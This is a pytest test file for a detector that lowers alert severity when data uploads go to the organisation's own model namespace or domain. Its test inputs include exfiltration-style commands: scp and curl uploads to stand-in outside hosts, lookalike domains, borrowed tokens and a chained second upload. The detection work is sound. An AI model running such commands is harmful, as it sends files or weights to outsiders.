"""What went to a place of the site's own is explained, one severity, and never hidden."""

from dataclasses import replace

import pytest

from analytics.findings import Severity
from analytics.identity import read_people
from analytics.resources import read_resources
from analytics.risk.own_places import Places, explained, places
from analytics.site import Site
from tests.analytics.risk.test_duty import ALERT as DUTY

PEOPLE = "person,name,accounts\n" + "".join(
    f"p{n},P{n},unix:p{n};git:p{n}@acme.example;okta:p{n}@acme.example;git:p{n}@m{n}.example\n"
    for n in range(5)
)
SITE = Site(
    directory=read_people(PEOPLE),
    resources=read_resources(
        "kind,pattern,owner\n"
        "model,Acme-AI/*,team:release\n"
        "dataset,*/shared,team:release\n"
        "repository,forge/lib,team:release\n"
    ),
)
OWN = Places(frozenset({"acme-ai"}), frozenset({"acme.example"}))
ALERT = replace(DUTY, duty=False, elsewhere=True, severity=Severity.HIGH, title="Sent outside")


def test_places_are_told_by_models_and_by_the_addresses_of_most() -> None:
    assert places(SITE) == OWN
    assert places(Site()) == Places()


def test_two_people_make_no_domain() -> None:
    few = read_people("person,name,accounts\na,A,git:a@x.example\nb,B,git:b@x.example\n")
    assert places(Site(directory=few)) == Places()


@pytest.mark.parametrize(
    "told",
    [
        "acme-ai/base-7b",
        "hf upload Acme-AI/base-7b ./out --repo-type model",
        "/opt/env/bin/huggingface-cli upload-large-folder acme-ai/base-7b ./out",
        "scp -r out me@drop.acme.example:in/",
        "rsync -a weights/ store.acme.example:/backup",
    ],
)
def test_what_went_to_our_own_is_one_severity_lower_and_says_so(told: str) -> None:
    one = explained(replace(ALERT, object=told), OWN)
    assert one.severity is Severity.MEDIUM
    assert one.confidence == pytest.approx(0.28)
    assert one.title == "Sent outside, to a place of our own"


@pytest.mark.parametrize(
    "told",
    [
        "elsewhere/acme-ai",
        "hf upload elsewhere/copy acme-ai/base-7b",
        "HF_TOKEN=hf_x hf upload acme-ai/base-7b ./out",  # with the rights of somebody else
        "hf upload acme-ai/base-7b a; hf upload elsewhere/b b",
        "scp out.acme.example:x me@203.0.113.9:in/",
        "scp out me@acme.example.elsewhere.example:in/",
        "scp out me@notacme.example:in/",
        "scp -o HostName=203.0.113.9 out me@acme.example:in/",
        "scp -J elsewhere.example out acme.example:in/",
        "rclone copy out drive:acme.example",
        "curl -T out https://elsewhere.example/?acme.example",
        "hf upload $WHERE/base-7b out",
    ],
)
def test_what_went_elsewhere_or_cannot_be_told_stays(told: str) -> None:
    alert = replace(ALERT, object=told)
    assert explained(alert, OWN) == alert


def test_of_rules_that_ask_nothing_of_the_kind_alerts_stay() -> None:
    alert = replace(ALERT, elsewhere=False, object="acme-ai/base-7b")
    assert explained(alert, OWN) == alert
    unnamed = replace(ALERT, object=None)
    assert explained(unnamed, OWN) == unnamed
